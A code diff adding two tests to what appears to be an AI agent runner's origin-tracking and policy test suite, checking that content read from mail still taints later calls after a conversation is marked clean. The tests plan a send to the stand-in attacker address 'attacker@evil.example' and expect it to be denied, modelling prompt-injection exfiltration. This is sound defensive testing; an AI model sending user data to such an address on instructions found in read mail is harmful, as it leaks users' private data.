@@ -1,6 +1,7 @@
 import { mkdtempSync, realpathSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { setTimeout } from 'node:timers/promises';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import {
   type AgentRunner,
@@ -122,5 +123,39 @@ describe('the origins of a conversation', () => {
       .calls;
     expect(planned?.origins).toMatchObject({ seen: ['mcp:mail'], args: { '/to': ['mcp:mail'] } });
     expect(planned?.result?.error?.code).toBe('policy_denied');
+  });
+
+  it('bug: a later process did not know the text of a call that was deferred before a mark and ran after it', async () => {
+    const root = folder();
+    const ask = { decision: 'ask', tool: 'read_mail' } as const;
+    const options = { root, journal: join(folder(), 'journal.db'), policy: { ...AUTO, rules: [ask, DENY] } };
+    const first = open(options);
+    await first.start([{ id: 'read', name: 'read_mail', args: {} }], { conversation: 'c', defer: true })
+      .results;
+    await setTimeout(5);
+    first.mark('c', 'clean');
+    await setTimeout(5);
+    const [waiting] = await first.waiting();
+    const approver = () => ({ kind: 'approve_all' }) as const;
+    await (await first.approve(waiting?.batchId ?? '', { approver })).results;
+    await first.close();
+    const [planned] = (await open(options).plan([send('attacker@evil.example')], { conversation: 'c' }))
+      .calls;
+    expect(planned?.result?.error?.code).toBe('policy_denied');
+  });
+
+  it('do not come back to a later process from results before a mark', async () => {
+    const root = folder();
+    const options = { root, journal: join(folder(), 'journal.db'), policy: { ...AUTO, rules: [DENY] } };
+    const first = open(options);
+    await first.execute('read_mail', {}, { conversation: 'c' });
+    await setTimeout(5);
+    first.mark('c', 'clean');
+    await setTimeout(5);
+    await first.execute('read_file', { path: 'missing' }, { conversation: 'c' });
+    await first.close();
+    const [planned] = (await open(options).plan([send('attacker@evil.example')], { conversation: 'c' }))
+      .calls;
+    expect(planned?.origins.args).toEqual({});
   });
 });
